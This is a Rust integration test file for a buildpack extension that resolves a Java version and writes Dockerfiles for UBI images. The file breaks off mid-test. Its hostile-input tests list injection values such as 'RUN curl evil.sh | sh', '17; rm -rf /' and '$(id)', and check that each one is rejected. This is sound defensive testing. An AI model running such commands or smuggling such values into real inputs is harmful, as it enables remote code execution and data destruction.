//! The packaged extension run as the lifecycle runs it (through the harness), on fixture apps,
//! with its catalogue pointed at fixture `images.json` files.

// Test helpers panic on a broken setup (clippy.toml allows unwrap in tests).
#![allow(clippy::unwrap_used)]

use cnb_harness::{GenerateOutcome, Module, ModuleRun, Process, TargetEnv, workspace_root};
use std::fmt::Write;
use std::path::{Path, PathBuf};
use std::time::Duration;
use tempfile::TempDir;

// Dependencies of the binary that this test does not name (for `unused_crate_dependencies`).
use cnb_extension as _;
use insta as _;
use jvm_version as _;
use ubi_companion_contract as _;
use ubi_extension_support as _;
use untrusted_input as _;

const STACK_ID: &str = "CNB_STACK_ID";
const UBI8: &str = "io.buildpacks.stacks.ubi8";
const UBI9: &str = "io.buildpacks.stacks.ubi9";

/// The module's version, as its extension.toml declares it.
fn version() -> String {
    cnb_harness::descriptor_version(include_str!("../extension.toml"))
}

fn app(name: &str) -> PathBuf {
    workspace_root().join("tests/fixtures/apps").join(name)
}

fn fixture(name: &str) -> PathBuf {
    workspace_root().join("tests/fixtures/ubi-java").join(name)
}

fn packaged() -> Module {
    Module::package("extensions/ubi-java")
}

/// A copy of the packaged extension whose `[metadata] catalogue` is `catalogue`; the copy lives
/// as long as the returned directory.
fn with_catalogue(catalogue: &Path) -> (Module, TempDir) {
    let packaged = packaged();
    assert_eq!(
        packaged.metadata_string("catalogue").as_deref(),
        Some("/etc/buildpacks/images.json"),
        "the packaged extension reads the stack's catalogue"
    );
    packaged.copy_with_metadata_path("catalogue", catalogue)
}

/// A Buildpack Plan with a `jdk` (build) and a `jre` (launch) entry, each with `version` and
/// `version-source` when given, as the companion buildpack requires them.
fn plan(version: Option<(&str, &str)>) -> String {
    let mut plan = String::new();
    for (name, flag) in [("jdk", "build"), ("jre", "launch")] {
        writeln!(
            plan,
            "[[entries]]\nname = \"{name}\"\n[entries.metadata]\n{flag} = true"
        )
        .unwrap();
        if let Some((version, source)) = version {
            writeln!(
                plan,
                "version = {}\nversion-source = {}",
                toml::Value::from(version),
                toml::Value::from(source)
            )
            .unwrap();
        }
    }
    plan
}

/// As Paketo's Maven and Gradle buildpacks require it: `jdk` without a version.
const JDK_ONLY: &str = "[[entries]]\nname = \"jdk\"\n[entries.metadata]\nbuild = true\n";

/// An app directory holding `files`.
fn app_with(files: &[(&str, &str)]) -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (path, content) in files {
        let path = dir.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }
    dir
}

fn assert_success(outcome: &GenerateOutcome) {
    assert_eq!(
        outcome.process.exit_code, 0,
        "stdout:\n{}\nstderr:\n{}",
        outcome.process.stdout, outcome.process.stderr
    );
    assert_eq!(outcome.files, ["build.Dockerfile", "run.Dockerfile"]);
    assert!(outcome.extend_config.is_none());
    assert_eq!(outcome.process.stderr, "");
}

/// Fails as every module fails, `ERROR: <header>` then an indented body, containing every
/// `expected`; and writes nothing.
fn assert_failure(outcome: &GenerateOutcome, expected: &[&str]) {
    assert_eq!(
        outcome.process.exit_code, 1,
        "stdout:\n{}\nstderr:\n{}",
        outcome.process.stdout, outcome.process.stderr
    );
    assert!(outcome.files.is_empty(), "{:?}", outcome.files);
    let stderr = &outcome.process.stderr;
    assert!(stderr.starts_with("ERROR: "), "{stderr}");
    let body: Vec<&str> = stderr.lines().skip(1).collect();
    assert!(!body.is_empty(), "{stderr}");
    assert!(body.iter().all(|line| line.starts_with("  ")), "{stderr}");
    for expected in expected {
        assert!(stderr.contains(expected), "{expected:?} not in {stderr}");
    }
}

/// The run.Dockerfile's image.
fn run_image(outcome: &GenerateOutcome) -> &str {
    outcome
        .run_dockerfile
        .as_deref()
        .and_then(|dockerfile| dockerfile.strip_prefix("FROM "))
        .and_then(|rest| rest.strip_suffix('\n'))
        .unwrap()
}

/// The JDK package the build.Dockerfile installs.
fn jdk_package(outcome: &GenerateOutcome) -> &str {
    outcome
        .build_dockerfile
        .as_deref()
        .unwrap()
        .split_whitespace()
        .find(|word| word.starts_with("java-") && word.ends_with("-openjdk-devel"))
        .unwrap()
}

const INSTALL: &str = "microdnf --setopt=install_weak_deps=0 --setopt=tsflags=nodocs install -y";

const CACHE_COMMENT: &str = "# build_id is deliberately not referenced: these layers stay cached \
    until the build image or this file changes (a stack release, another Java major).\n\
    # Upstream ran `RUN echo ${build_id}` before the install, which re-ran microdnf on every build.\n";

const RUNTIME_FILE: &str = "/usr/share/paketo-community/ubi-java-extension/runtime.toml";

fn runtime_lines(major: u32, stack: &str, java_home: &str) -> String {
    format!(
        "# Tells the companion buildpack which Java was installed: {RUNTIME_FILE}\n\
         RUN mkdir -p /usr/share/paketo-community/ubi-java-extension && printf '%b' \
         'major = {major}\\nstack = \"{stack}\"\\njava_home = \"{java_home}\"\\n' > \
         {RUNTIME_FILE} && chmod 644 {RUNTIME_FILE}\n"
    )
}

const RESTORE_USER: &str = "ARG user_id\nARG group_id\nUSER ${user_id}:${group_id}\n";

#[test]
fn detect_provides_jdk_and_jre_or_either() {
    for name in ["java-maven-release-21", "java-prebuilt-jar", "empty-app"] {
        let outcome = ModuleRun::new(&packaged(), app(name)).detect();
        assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
        let expected: toml::Table = toml::from_str(
            "[[provides]]\nname = \"jdk\"\n[[provides]]\nname = \"jre\"\n\n\
             [[or]]\n[[or.provides]]\nname = \"jdk\"\n\n\
             [[or]]\n[[or.provides]]\nname = \"jre\"\n",
        )
        .unwrap();
        assert_eq!(outcome.plan, Some(expected));
    }
}

#[test]
fn ubi8_without_java_entries_uses_the_builtin_table_and_the_sdkmanrc() {
    let catalogue = fixture("images-ubi8.json");
    let (module, _dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("java-sdkmanrc"))
        .lifecycle_env(STACK_ID, UBI8)
        .target(TargetEnv::linux_amd64("rhel", "8.10"))
        .buildpack_plan(JDK_ONLY)
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.build_dockerfile.as_deref().unwrap(),
        format!(
            "ARG base_image\nFROM ${{base_image}}\n\nUSER root\n{CACHE_COMMENT}\
             RUN {INSTALL} openssl-devel java-17-openjdk-devel nss_wrapper which && \
             microdnf clean all\n{}{RESTORE_USER}",
            runtime_lines(17, UBI8, "/usr/lib/jvm/java-17-openjdk")
        )
    );
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM paketobuildpacks/run-java-17-ubi8-base\n")
    );
    assert_eq!(
        outcome.process.stdout,
        format!(
            "UBI Java Extension {version}\n\
             \x20 Resolving Java version\n\
             \x20   Candidate version sources (in priority order):\n\
             \x20     app .sdkmanrc -> \"17.0.10-tem\"\n\
             \n\
             \x20   Using the highest-priority request: app .sdkmanrc -> \"17.0.10-tem\" (Java 17)\n\
             \x20   Stack io.buildpacks.stacks.ubi8 (from CNB_STACK_ID)\n\
             \x20   Java versions of the stack (built-in table for ubi8: {} lists no \
             java-<major> image): 8, 11, 17, 21 (default 17: upstream's default)\n\
             \n\
             \x20 Selected Java major version 17\n\
             \x20 Run image paketobuildpacks/run-java-17-ubi8-base (from Paketo's naming for the \
             stack)\n\
             \x20 Installing with microdnf:\n\
             \x20   openssl-devel java-17-openjdk-devel nss_wrapper which\n\
             \x20 JAVA_HOME /usr/lib/jvm/java-17-openjdk (recorded for the companion buildpack in \
             {RUNTIME_FILE})\n\
             \n",
            catalogue.display(),
            version = version()
        )
    );
}

#[test]
fn ubi8_java_8_in_the_legacy_spelling() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .lifecycle_env(STACK_ID, UBI8)
        .platform_env("BP_JVM_VERSION", "1.8")
        .buildpack_plan(&plan(Some(("21", "pom.xml"))))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.build_dockerfile.as_deref().unwrap(),
        format!(
            "ARG base_image\nFROM ${{base_image}}\n\nUSER root\n{CACHE_COMMENT}\
             RUN {INSTALL} openssl-devel java-1.8.0-openjdk-devel nss_wrapper which && \
             microdnf clean all\n{}{RESTORE_USER}",
            runtime_lines(8, UBI8, "/usr/lib/jvm/java-1.8.0-openjdk")
        )
    );
    assert_eq!(run_image(&outcome), "paketobuildpacks/run-java-8-ubi8-base");
}

#[test]
fn ubi9_from_the_target_with_the_plan_version() {
    let catalogue = fixture("images-ubi9.json");
    let (module, _dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .target(TargetEnv::linux_amd64("rhel", "9.4"))
        .buildpack_plan(&plan(Some(("21", "pom.xml"))))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.build_dockerfile.as_deref().unwrap(),
        format!(
            "ARG base_image\nFROM ${{base_image}}\n\nUSER root\n{CACHE_COMMENT}\
             RUN {INSTALL} openssl-devel java-21-openjdk-devel nss_wrapper-libs which && \
             microdnf clean all\n{}{RESTORE_USER}",
            runtime_lines(21, UBI9, "/usr/lib/jvm/java-21-openjdk")
        )
    );
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM paketobuildpacks/run-java-21-ubi9-base\n")
    );
    let stdout = &outcome.process.stdout;
    for line in [
        "      build plan jdk from pom.xml -> \"21\"\n      build plan jre from pom.xml -> \"21\"\n      \
         app pom.xml -> \"21\"\n",
        "    Using the highest-priority request: build plan jdk from pom.xml -> \"21\" (Java 21)\n",
        "    Stack io.buildpacks.stacks.ubi9 (from target distro rhel \"9.4\")\n",
        &format!(
            "    Java versions of the stack (catalogue {}): 17, 21 (default 17: upstream's default)\n",
            catalogue.display()
        ),
    ] {
        assert!(stdout.contains(line), "{line:?} not in\n{stdout}");
    }
}

#[test]
fn bp_jvm_version_wins_over_the_plan() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .lifecycle_env(STACK_ID, UBI9)
        .platform_env("BP_JVM_VERSION", "17.*")
        .buildpack_plan(&plan(Some(("21", "pom.xml"))))
        .generate();
    assert_success(&outcome);
    assert_eq!(jdk_package(&outcome), "java-17-openjdk-devel");
    assert_eq!(
        run_image(&outcome),
        "paketobuildpacks/run-java-17-ubi9-base"
    );
    assert!(outcome.process.stdout.contains(
        "      BP_JVM_VERSION -> \"17.*\"\n      build plan jdk from pom.xml -> \"21\"\n"
    ));
}

#[test]
fn the_app_decides_when_the_plan_has_no_version() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
    for (name, major, source) in [
        ("java-maven-release-21", 21, "app pom.xml -> \"21\""),
        (
            "java-gradle-toolchain-17",
            17,
            "app build.gradle.kts -> \"17\"",
        ),
        (
            "java-prebuilt-jar",
            17,
            "app META-INF/MANIFEST.MF -> \"17\"",
        ),
        ("java-sdkmanrc", 17, "app .sdkmanrc -> \"17.0.10-tem\""),
        ("java-version-file", 17, "app .java-version -> \"17.0.10\""),
    ] {
        let outcome = ModuleRun::new(&module, app(name))
            .lifecycle_env(STACK_ID, UBI9)
            .buildpack_plan(&plan(None))
            .generate();
        assert_success(&outcome);
        assert_eq!(
            jdk_package(&outcome),
            format!("java-{major}-openjdk-devel"),
            "{name}"
        );
        assert_eq!(
            run_image(&outcome),
            format!("paketobuildpacks/run-java-{major}-ubi9-base")
        );
        assert!(
            outcome.process.stdout.contains(&format!(
                "    Using the highest-priority request: {source} (Java {major})\n"
            )),
            "{name}: {}",
            outcome.process.stdout
        );
    }
}

#[test]
fn the_default_and_the_catalogues_full_run_image_reference() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9-local-run-images.json"));
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(&plan(None))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM localhost/paketo/run-java-17-ubi9-base:0.0.42\n")
    );
    let stdout = &outcome.process.stdout;
    for line in [
        "    No version requested (BP_JVM_VERSION, the build plan's jdk and jre, the app's \
         .sdkmanrc, .java-version, MANIFEST.MF, pom.xml, build.gradle(.kts))\n",
        "    No version requested: using the default, 17\n",
        "  Run image localhost/paketo/run-java-17-ubi9-base:0.0.42 (from run_image of java-17 in \
         the catalogue)\n",
    ] {
        assert!(stdout.contains(line), "{line:?} not in\n{stdout}");
    }
}

#[test]
fn the_run_image_override_wins_and_an_empty_one_is_ignored() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9-local-run-images.json"));
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .lifecycle_env(STACK_ID, UBI9)
        .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", "localhost/my/run-java:21")
        .buildpack_plan(&plan(None))
        .generate();
    assert_success(&outcome);
    assert_eq!(run_image(&outcome), "localhost/my/run-java:21");
    assert!(outcome.process.stdout.contains(
        "  Using run image specified by BP_UBI_RUN_IMAGE_OVERRIDE localhost/my/run-java:21\n"
    ));

    // Upstream writes `FROM ` with nothing after it; here an empty value is unset.
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .lifecycle_env(STACK_ID, UBI9)
        .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", "")
        .buildpack_plan(&plan(None))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        run_image(&outcome),
        "localhost/paketo/run-java-21-ubi9-base:0.0.42"
    );
}

#[test]
fn an_unsupported_major_fails_with_the_supported_list() {
    let catalogue = fixture("images-ubi9.json");
    let (module, _dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .lifecycle_env(STACK_ID, UBI9)
        .platform_env("BP_JVM_VERSION", "11")
        .buildpack_plan(&plan(None))
        .generate();
    assert_failure(
        &outcome,
        &[&format!(
            "ERROR: unable to map requested Java version \"11\" (BP_JVM_VERSION) to a UBI \
             supported runtime\n  io.buildpacks.stacks.ubi9 offers Java 17, 21 (catalogue {}), \
             not 11.",
            catalogue.display()
        )],
    );
    // The log went as far as the candidates.
    assert!(
        outcome
            .process
            .stdout
            .contains("      BP_JVM_VERSION -> \"11\"\n")
    );
    // 22 on the ubi8 table.
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(Some(("22", "BP_JVM_VERSION"))))
        .generate();
    assert_failure(
        &outcome,
        &["offers Java 8, 11, 17, 21 (built-in table for ubi8: "],
    );
}

const HOSTILE: &[&str] = &[
    "17\nRUN curl evil.sh | sh",
    "17; rm -rf /",
    "$(id)",
    "17-$(id)",
    "17 && id",
    "'17'",
    "\"17\"",
    "`id`",
    "17 21",
    "${HOME}",
];

#[test]
fn hostile_versions_are_rejected_and_nothing_is_written() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    for version in HOSTILE {
        let quoted = format!("{:?}", version.trim());
        // BP_JVM_VERSION.
        let outcome = ModuleRun::new(&module, app("empty-app"))
            .lifecycle_env(STACK_ID, UBI8)
            .platform_env("BP_JVM_VERSION", version)
            .buildpack_plan(&plan(None))
            .generate();
        assert_failure(
            &outcome,
            &[&format!(
                "ERROR: Invalid Java version request\n  the Java version {quoted} requested by \
                 BP_JVM_VERSION is not a Java version"
            )],
        );
        // A plan version.
        let outcome = ModuleRun::new(&module, app("empty-app"))
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(Some((version, "pom.xml"))))
            .generate();
        assert_failure(
            &outcome,
            &[&format!(
                "ERROR: Invalid Java version request\n  the Java version {quoted} requested by \
                 build plan jdk from pom.xml is not a Java version"
            )],
        );
        // .java-version: its first line decides (a value parse_major would accept for its
        // major, 17-$(id), is rejected for its characters); a second line is never read.
        let dir = app_with(&[(".java-version", version)]);
        let outcome = ModuleRun::new(&module, dir.path())
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(None))
            .generate();
        if version.contains('\n') {
            assert_success(&outcome);
            assert_eq!(jdk_package(&outcome), "java-17-openjdk-devel");
        } else {
            assert_failure(&outcome, &[".java-version"]);
        }
        // A pom property. An unresolvable `${...}` reference names no version: the default.
        let pom = format!(
            "<project><properties><maven.compiler.release>{}</maven.compiler.release>\
             </properties></project>",
            version.replace('&', "&amp;")
        );
        let dir = app_with(&[("pom.xml", &pom)]);
        let outcome = ModuleRun::new(&module, dir.path())
            .lifecycle_env(STACK_ID, UBI8)
            .buildpack_plan(&plan(None))
            .generate();
        if version.contains("${") {
            assert_success(&outcome);
            assert!(outcome.process.stdout.contains("using the default, 17"));
        } else {
            assert_failure(&outcome, &["pom.xml"]);
        }
        for dockerfile in [&outcome.build_dockerfile, &outcome.run_dockerfile] {
            let dockerfile = dockerfile.as_deref().unwrap_or_default();
            assert!(!dockerfile.contains("HOME") && !dockerfile.contains("evil"));
        }
    }
    // A hostile version source only reaches the log and the error, escaped.
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(Some(("99", "x\nRUN id"))))
        .generate();
    assert_failure(&outcome, &["\"99\" (build plan jdk from \"x\\nRUN id\") "]);
    assert!(
        outcome
            .process
            .stdout
            .contains("      build plan jdk from \"x\\nRUN id\" -> \"99\"\n")
    );
}

#[test]
fn hostile_overrides_are_rejected_and_nothing_is_written() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
    for image in [
        "x\nRUN id",
        "ubuntu; id",
        "ubuntu $(id)",
        "\"localhost/run\"",
        "localhost/run latest",
        "${base_image}",
    ] {
        let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
            .lifecycle_env(STACK_ID, UBI8)
            .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", image)
            .buildpack_plan(&plan(None))
            .generate();
        assert_failure(
            &outcome,
            &[&format!(
                "ERROR: Cannot choose the run image\n  BP_UBI_RUN_IMAGE_OVERRIDE: {image:?} is not \
                 an image reference"
            )],
        );
    }
}

#[test]
fn catalogue_problems_name_the_file_and_a_missing_one_means_the_table() {
    let dir = tempfile::tempdir().unwrap();
    let not_json = dir.path().join("not-json.json");
    std::fs::write(&not_json, "images:\n  - java-17\n").unwrap();
    let bad_name = dir.path().join("bad-name.json");
    std::fs::write(&bad_name, r#"{"images": [{"name": "java-latest"}]}"#).unwrap();
    let bad_run_image = dir.path().join("bad-run-image.json");
    std::fs::write(
        &bad_run_image,
        r#"{"images": [{"name": "java-17", "run_image": "localhost/Run Image"}]}"#,
    )
    .unwrap();
    for (catalogue, expected) in [
        (&not_json, "is not valid: expected value at line 1 column 1"),
        (&bad_name, "has an image named \"java-latest\""),
        (
            &bad_run_image,
            "gives \"java-17\" a run_image that is not a valid image reference",
        ),
    ] {
        let (module, _module_dir) = with_catalogue(catalogue);
        let outcome = ModuleRun::new(&module, app("empty-app"))
            .lifecycle_env(STACK_ID, UBI9)
            .buildpack_plan(&plan(None))
            .generate();
        assert_failure(
            &outcome,
            &[&format!(
                "the Java version catalogue {} {expected}",
                catalogue.display()
            )],
        );
    }

    let missing = dir.path().join("missing.json");
    let (module, _module_dir) = with_catalogue(&missing);
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI8)
        .buildpack_plan(&plan(None))
        .generate();
    assert_success(&outcome);
    assert_eq!(
        run_image(&outcome),
        "paketobuildpacks/run-java-17-ubi8-base"
    );
    assert!(outcome.process.stdout.contains(&format!(
        "(built-in table for ubi8: {} does not exist): 8, 11, 17, 21 (default 17",
        missing.display()
    )));

    // ubi10 publishes no Java run image: without java-* entries there is nothing to offer.
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .target(TargetEnv::linux_amd64("rhel", "10.0"))
        .buildpack_plan(&plan(None))
        .generate();
    assert_failure(
        &outcome,
        &["ERROR: io.buildpacks.stacks.ubi10 offers no Java this extension knows of"],
    );
}

#[test]
fn ubi10_with_java_entries_in_its_catalogue() {
    // Upstream cannot serve ubi10 at all; a catalogue with java-* entries makes it work.
    let dir = tempfile::tempdir().unwrap();
    let catalogue = dir.path().join("images.json");
    std::fs::write(
        &catalogue,
        r#"{"os_name": "ubi", "os_codename": "10", "images": [{"name": "java-21", "run_image": "run-java-21"}, {"name": "nodejs-24", "is_default_run_image": true}]}"#,
    )
    .unwrap();
    let (module, _module_dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .target(TargetEnv::linux_amd64("rhel", "10.0"))
        .buildpack_plan(&plan(Some(("21", "pom.xml"))))
        .generate();
    assert_success(&outcome);
    assert!(outcome.build_dockerfile.as_deref().unwrap().contains(&format!(
        "RUN {INSTALL} openssl-devel java-21-openjdk-devel nss_wrapper-libs which && microdnf \
         clean all\n"
    )));
    assert_eq!(
        run_image(&outcome),
        "paketobuildpacks/ubi-10-run-java-21-base"
    );
}

#[test]
fn no_jdk_or_jre_entry_writes_nothing_and_unknown_stacks_are_errors() {
    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan("[[entries]]\nname = \"jvm-application\"\n")
        .generate();
    assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
    assert!(outcome.files.is_empty(), "{:?}", outcome.files);
    assert!(
        outcome
            .process
            .stdout
            .contains("  No jdk or jre in the Buildpack Plan: nothing to install\n")
    );

    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.jammy")
        .buildpack_plan(&plan(None))
        .generate();
    assert_failure(
        &outcome,
        &[
            "ERROR: Not a UBI stack\n  unsupported stack \"io.buildpacks.stacks.jammy\" (CNB_STACK_ID)",
        ],
    );

    let outcome = ModuleRun::new(&module, app("empty-app"))
        .target(TargetEnv::linux_amd64("ubuntu", "24.04"))
        .buildpack_plan(&plan(None))
        .generate();
    assert_failure(
        &outcome,
        &["CNB_STACK_ID is not set and the target distro is \"ubuntu\" \"24.04\""],
    );
}

#[test]
fn the_packaged_binary_is_small() {
    // (The packager has checked that it is statically linked.)
    let module = packaged();
    let executable = module.executable("generate");
    let size = std::fs::metadata(&executable).unwrap().len();
    assert!(size < 2 * 1024 * 1024, "bin/generate is {size} bytes");
    assert_eq!(
        std::fs::read_link(module.dir.join("bin/detect")).unwrap(),
        PathBuf::from("generate")
    );
}

/// Generate, killed after 30 s: the process (`None` when it hung) and how long it ran.
fn generate_bounded(run: &ModuleRun) -> (Option<Process>, Duration) {
    run.run_bounded("generate", cnb_harness::HANG_GUARD)
}

#[test]
fn catalogue_names_that_are_not_ours_are_ignored_and_uninstallable_majors_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let catalogue = dir.path().join("images.json");
    std::fs::write(
        &catalogue,
        r#"{"images": [{"name": "javascript-tools", "run_image": "x"}, {"name": "nodejsfoo"}, {"name": "java-21", "run_image": "run-java-21"}, {"name": "nodejs-22", "is_default_run_image": true}]}"#,
    )
    .unwrap();
    let (module, _module_dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(&plan(None))
        .generate();
    assert_success(&outcome);
    assert_eq!(jdk_package(&outcome), "java-21-openjdk-devel");

    // `java-0` used to make the catalogue an error; it is skipped (never installed).
    std::fs::write(
        &catalogue,
        r#"{"images": [{"name": "java-0", "run_image": "run-java-0"}, {"name": "java-21"}]}"#,
    )
    .unwrap();
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(&plan(None))
        .generate();
    assert_success(&outcome);
    assert_eq!(jdk_package(&outcome), "java-21-openjdk-devel");
    assert!(
        outcome.process.stdout.contains(
            "      Skipped java-0: older than the first OpenJDK LTS release, the only Java RHEL \
             packages (8, 11, 17, 21, 25 and every fourth after)\n"
        ),
        "{}",
        outcome.process.stdout
    );
}

/// Issue 21: one `java-26` (not an LTS release RHEL packages) or `java-1` entry in the
/// catalogue aborted every Java build ("The build image is broken"), even one asking for 17.
/// Now they are skipped, with the reason in the log.
#[test]
fn unknown_and_future_majors_of_the_catalogue_are_skipped() {
    let catalogue = fixture("images-ubi9-unknown-and-future.json");
    let (module, _dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(&plan(Some(("17", "pom.xml"))))
        .generate();
    assert_success(&outcome);
    assert_eq!(jdk_package(&outcome), "java-17-openjdk-devel");
    assert_eq!(
        run_image(&outcome),
        "paketobuildpacks/run-java-17-ubi9-base"
    );
    assert_eq!(
        outcome.process.stdout,
        format!(
            "UBI Java Extension {version}\n\
             \x20 Resolving Java version\n\
             \x20   Candidate version sources (in priority order):\n\
             \x20     build plan jdk from pom.xml -> \"17\"\n\
             \x20     build plan jre from pom.xml -> \"17\"\n\
             \x20     app pom.xml -> \"21\"\n\
             \n\
             \x20   Using the highest-priority request: build plan jdk from pom.xml -> \"17\" \
             (Java 17)\n\
             \x20   Stack io.buildpacks.stacks.ubi9 (from CNB_STACK_ID)\n\
             \x20   Java versions of the stack (catalogue {}): 17, 21 (default 17: upstream's \
             default)\n\
             \x20     Skipped java-1: older than the first OpenJDK LTS release, the only Java \
             RHEL packages (8, 11, 17, 21, 25 and every fourth after)\n\
             \x20     Skipped java-26: not an OpenJDK LTS release, the only Java RHEL packages \
             (8, 11, 17, 21, 25 and every fourth after)\n\
             \n\
             \x20 Selected Java major version 17\n\
             \x20 Run image paketobuildpacks/run-java-17-ubi9-base (from Paketo's naming for the \
             stack)\n\
             \x20 Installing with microdnf:\n\
             \x20   openssl-devel java-17-openjdk-devel nss_wrapper-libs which\n\
             \x20 JAVA_HOME /usr/lib/jvm/java-17-openjdk (recorded for the companion buildpack in \
             {RUNTIME_FILE})\n\
             \n",
            catalogue.display(),
            version = version()
        )
    );

    // Nothing requested: the default, 17.
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(&plan(None))
        .generate();
    assert_success(&outcome);
    assert_eq!(jdk_package(&outcome), "java-17-openjdk-devel");

    // Asking for the skipped major fails, saying why.
    let outcome = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI9)
        .platform_env("BP_JVM_VERSION", "26")
        .buildpack_plan(&plan(None))
        .generate();
    assert_failure(
        &outcome,
        &[&format!(
            "ERROR: unable to map requested Java version \"26\" (BP_JVM_VERSION) to a UBI \
             supported runtime\n  io.buildpacks.stacks.ubi9 offers Java 17, 21 (catalogue {}), \
             not 26.\n  The catalogue also lists java-26, but this extension cannot install it: \
             it is not an OpenJDK LTS release, the only Java RHEL packages (8, 11, 17, 21, 25 and \
             every fourth after).\n",
            catalogue.display()
        )],
    );

    // Only majors it cannot install: a clear error naming them.
    let catalogue = fixture("images-ubi9-only-uninstallable.json");
    let (module, _dir) = with_catalogue(&catalogue);
    let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(&plan(Some(("17", "pom.xml"))))
        .generate();
    assert_failure(
        &outcome,
        &[&format!(
            "ERROR: Cannot use the stack's Java catalogue\n  the Java version catalogue {} lists \
             Java 1, 26, none of which this extension can install: java-1: older than the first \
             OpenJDK LTS release",
            catalogue.display()
        )],
    );
}

#[test]
fn fifos_are_errors_not_hangs() {
    let dir = tempfile::tempdir().unwrap();
    let fifo_catalogue = dir.path().join("images.json");
    cnb_harness::mkfifo(&fifo_catalogue);
    let (module, _module_dir) = with_catalogue(&fifo_catalogue);
    let run = ModuleRun::new(&module, app("empty-app"))
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(&plan(None));
    let (process, took) = generate_bounded(&run);
    let process = process.unwrap_or_else(|| panic!("generate hung ({took:?})"));
    assert_eq!(process.exit_code, 1, "{}", process.stderr);
    assert_eq!(
        process.stderr,
        format!(
            "ERROR: Cannot use the stack's Java catalogue\n  cannot read the Java version \
             catalogue {}: it is a FIFO, not a regular file. The file must be readable by the \
             build user.\n",
            fifo_catalogue.display()
        )
    );

    let catalogue = fixture("images-ubi9.json");
    let (module, _module_dir) = with_catalogue(&catalogue);
    for file in [
        ".sdkmanrc",
        ".java-version",
        "META-INF/MANIFEST.MF",
        "pom.xml",
        "build.gradle",
        "build.gradle.kts",
    ] {
        let app = tempfile::tempdir().unwrap();
        cnb_harness::mkfifo(&app.path().join(file));
        let run = ModuleRun::new(&module, app.path())
            .lifecycle_env(STACK_ID, UBI9)
            .buildpack_plan(JDK_ONLY);
        let (process, took) = generate_bounded(&run);
        let process = process.unwrap_or_else(|| panic!("generate hung on {file} ({took:?})"));
        assert_eq!(process.exit_code, 1, "{file}: {}", process.stderr);
        assert!(
            process.stderr.starts_with(&format!(
                "ERROR: Cannot use the app's Java version\n  cannot read the app's Java version: {} \
                 is a FIFO, not a regular file.",
                app.path().join(file).display()
            )),
            "{file}: {}",
            process.stderr
        );
    }
}

#[test]
fn a_pom_expansion_bomb_fails_naming_the_file() {
    // The 641-byte pom of issue 13: nine levels of properties, each referencing the next ten
    // times (generate ran past 30 s building a 200 MB string). The work is bounded by the
    // substitution and size limits: the error says which one stopped it.
    let pom = std::fs::read_to_string(fixture("pom-expansion-bomb.xml")).unwrap();
    let app = app_with(&[("pom.xml", &pom)]);
    let (module, _module_dir) = with_catalogue(&fixture("images-ubi9.json"));
    let run = ModuleRun::new(&module, app.path())
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(JDK_ONLY);
